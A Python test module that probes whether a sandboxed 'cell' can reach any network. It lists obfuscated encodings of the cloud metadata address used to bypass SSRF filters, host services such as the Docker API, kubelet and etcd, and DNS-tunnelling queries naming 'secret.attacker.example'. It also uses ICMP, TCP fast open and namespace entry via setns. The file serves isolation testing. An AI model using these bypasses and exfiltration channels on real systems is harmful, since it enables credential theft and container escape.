"""Straight ways to a network. A cell has none; the control finds the suite's own servers everywhere."""

from __future__ import annotations

import os
import socket
import struct

from hostile_kit import OWN_INTERFACES, call, connected, probe, refuse_real_network

_METADATA = "169.254.169.254"


def fetch(host: str, port: int = 80) -> str | None:
    """Ask for a page; any answer is a finding."""
    with connected(host, port) as stream:
        stream.sendall(f"GET /latest/meta-data/ HTTP/1.0\r\nHost: {host}\r\n\r\n".encode())
        answer = stream.recv(4096)
    return f"{host}:{port} answered {answer[-40:]!r}"


def _destination(name: str, about: str, technique: str, host: str, port: int = 80) -> None:
    def run() -> str | None:
        return fetch(host, port)

    run.__name__, run.__module__, run.__doc__ = name, __name__, about
    probe(technique)(run)


for _name, _about, _technique, _host, _port in (
    ("metadata", "The metadata service answers.", "SSRF to 169.254.169.254", _METADATA, 80),
    ("metadata_decimal", "It answers when written as one number.", "2852039166", "2852039166", 80),
    ("metadata_octal", "It answers when written in octal.", "0251.0376.0251.0376", "0251.0376.0251.0376", 80),
    ("metadata_hex", "It answers when written in hexadecimal.", "0xa9fea9fe", "0xa9fea9fe", 80),
    ("metadata_short", "It answers when written with fewer parts.", "169.254.43518", "169.254.43518", 80),
    ("metadata_mapped", "It answers as an IPv4-mapped address.", "::ffff:169.254.169.254", "::ffff:a9fe:a9fe", 80),
    ("metadata_nat64", "It answers behind NAT64's prefix.", "64:ff9b::/96", "64:ff9b::a9fe:a9fe", 80),
    ("metadata_6to4", "It answers behind 6to4's prefix.", "2002::/16", "2002:a9fe:a9fe::1", 80),
    ("metadata_ipv6", "The metadata service answers on IPv6.", "fd00:ec2::254", "fd00:ec2::254", 80),
    ("metadata_by_name", "The metadata service answers by its name.", "GCP", "metadata.google.internal", 80),
    ("metadata_of_containers", "The credentials of tasks answer.", "ECS, 169.254.170.2", "169.254.170.2", 80),
    ("metadata_azure", "Azure's platform address answers.", "168.63.129.16 looks public", "168.63.129.16", 80),
    ("metadata_alibaba", "Alibaba's metadata answers.", "100.100.100.200", "100.100.100.200", 80),
    ("private_10", "A private network answers.", "RFC 1918", "10.0.0.1", 80),
    ("private_172", "The engine's bridge answers.", "RFC 1918, docker0", "172.17.0.1", 80),
    ("private_192", "A home or office network answers.", "RFC 1918", "192.168.1.1", 80),
    ("carrier_grade", "A carrier's network answers.", "RFC 6598", "100.64.0.1", 80),
    ("unique_local", "A private IPv6 network answers.", "RFC 4193", "fd12:3456:789a::1", 80),
    ("internet", "A server of the internet answers.", "no address of it is special", "93.184.215.14", 80),
    ("internet_ipv6", "A server of the internet answers on IPv6.", "no address is special", "2606:2800:21f::1", 80),
    ("postgres", "Postgres of the host answers on loopback.", "the control plane's database", "127.0.0.1", 5432),
    ("nats", "NATS of the host answers on loopback.", "the control plane's bus", "127.0.0.1", 4222),
    ("flowcell_api", "Flowcell's API answers on loopback.", "the control plane's API", "127.0.0.1", 7860),
    ("docker_tcp", "Docker's API answers on loopback (CDK docker-api-pwn).", "port 2375", "127.0.0.1", 2375),
    ("docker_tcp_bridge", "Docker's API answers on the bridge.", "port 2375", "172.17.0.1", 2375),
    ("kubelet", "A kubelet answers (CDK k8s-get-sa-token).", "port 10250, 10255", "127.0.0.1", 10250),
    ("etcd", "An etcd answers (CDK etcd-get-k8s-token).", "port 2379", "127.0.0.1", 2379),
    ("redis", "Redis of the host answers on loopback.", "port 6379", "::1", 6379),
):
    _destination(_name, _about, _technique, _host, _port)


@probe("an interface is a way out")
def interfaces() -> str | None:
    """There is a network interface beside loopback."""
    with open("/proc/net/dev", encoding="utf-8") as lines:
        names = [line.split(":", maxsplit=1)[0].strip() for line in lines if ":" in line]
    up = [name for name in names if name != "lo" and (name in OWN_INTERFACES or _is_up(name))]
    return f"{up}" if up else None


def _is_up(name: str) -> bool:
    import fcntl

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        answer = fcntl.ioctl(udp, 0x8913, struct.pack("16sH14x", name.encode(), 0))
    return bool(struct.unpack("16sH14x", answer)[1] & 1)


@probe("a route is a way out")
def routes() -> str | None:
    """There is a route beside loopback's."""
    with open("/proc/net/route", encoding="ascii") as lines:
        found = [line.split()[:2] for line in list(lines)[1:] if line.split()[0] != "lo"]
    return f"{found[:3]}" if found else None


def _query() -> bytes:
    name = b"".join(bytes([len(part)]) + part for part in (b"secret", b"attacker", b"example"))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + name + b"\0" + struct.pack(">2H", 1, 1)


def _ask(host: str, port: int, question: bytes, family: int = socket.AF_INET) -> str:
    refuse_real_network()
    with socket.socket(family, socket.SOCK_DGRAM) as udp:
        udp.settimeout(1.5)
        udp.sendto(question, (host, port))
        return f"{host}:{port} answered {len(udp.recv(512))} bytes"


@probe("DNS tunnelling by a well-known resolver")
def public_resolver() -> str | None:
    """A resolver of the internet answers."""
    return _ask("8.8.8.8", 53, _query())


@probe("DNS tunnelling by a well-known resolver, on IPv6")
def public_resolver_ipv6() -> str | None:
    """A resolver of the internet answers on IPv6."""
    return _ask("2001:4860:4860::8888", 53, _query(), socket.AF_INET6)


@probe("DNS over TCP, which filters of UDP forget")
def public_resolver_by_tcp() -> str | None:
    """A resolver of the internet answers by TCP."""
    return fetch("8.8.8.8", 53)


@probe("DNS tunnelling by the resolver that the engine left in resolv.conf")
def engines_resolver() -> str | None:
    """A name server of /etc/resolv.conf answers."""
    if not os.path.exists("/etc/resolv.conf"):
        return None
    with open("/etc/resolv.conf", encoding="utf-8") as lines:
        servers = [line.split()[1] for line in lines if line.startswith("nameserver")]
    last: OSError | None = None
    for server in servers:
        try:
            return _ask(server, 53, _query(), socket.AF_INET6 if ":" in server else socket.AF_INET)
        except OSError as error:
            last = error
    if last:
        raise last
    return None


@probe("CDK's probe of the engine's resolver at 127.0.0.11")
def engines_own_resolver() -> str | None:
    """The engine's own name server answers."""
    return _ask("127.0.0.11", 53, _query())


@probe("getaddrinfo")
def resolves_names() -> str | None:
    """A name of the internet is resolved."""
    refuse_real_network()
    return f"{socket.getaddrinfo('example.com', 80)[0][4]}"


@probe("ICMP tunnelling")
def ping() -> str | None:
    """A host answers a ping."""
    refuse_real_network()
    try:
        icmp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    except OSError:
        icmp = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    with icmp:
        icmp.settimeout(1.5)
        icmp.sendto(struct.pack(">BBHHH", 8, 0, 0xF7FC, 3, 0), ("10.0.0.1", 0))
        return f"{len(icmp.recv(128))} bytes came back"


@probe("mDNS and other neighbours' services: multicast")
def multicast() -> str | None:
    """A multicast datagram leaves."""
    refuse_real_network()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        return f"{udp.sendto(_query(), ('224.0.0.251', 5353))} bytes left"


@probe("DHCP: broadcast")
def broadcast() -> str | None:
    """A broadcast leaves."""
    refuse_real_network()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return f"{udp.sendto(b'x', ('255.255.255.255', 67))} bytes left"


@probe("IPv6 neighbours: link-local all-nodes")
def all_nodes() -> str | None:
    """A datagram to all neighbours leaves."""
    refuse_real_network()
    index = next(index for index, name in socket.if_nameindex() if name in ("hc0", "lo"))
    index = {name: number for number, name in socket.if_nameindex()}.get("hc0", index)
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as udp:
        return f"{udp.sendto(b'x', ('ff02::1', 9999, 0, index))} bytes left"


@probe("TCP fast open sends before it connects: connect(2) is never called")
def fast_open() -> str | None:
    """Data leaves with the first packet."""
    refuse_real_network()
    with socket.socket() as stream:
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("@ll", 1, 500_000))
        stream.sendto(b"GET / HTTP/1.0\r\n\r\n", socket.MSG_FASTOPEN, (_METADATA, 80))
        stream.settimeout(1.5)
        return f"{stream.recv(64)[:20]!r}"


@probe("CVE-2020-13401, CVE-2020-8558: martians and route_localnet")
def localnet_of_the_host() -> str | None:
    """A loopback address other than the cell's own answers."""
    return fetch("127.8.8.8", 8888)


@probe("the socket of another network namespace by its file")
def enters_a_network_by_file() -> str | None:
    """A named network namespace of the host can be entered."""
    last: OSError | None = None
    for folder in ("/var/run/netns", "/run/netns", "/run/docker/netns"):
        try:
            for name in os.listdir(folder):
                call("setns", os.open(f"{folder}/{name}", os.O_RDONLY), 0x4000_0000)
                return f"entered {folder}/{name}"
        except OSError as error:
            last = error
    raise last or OSError
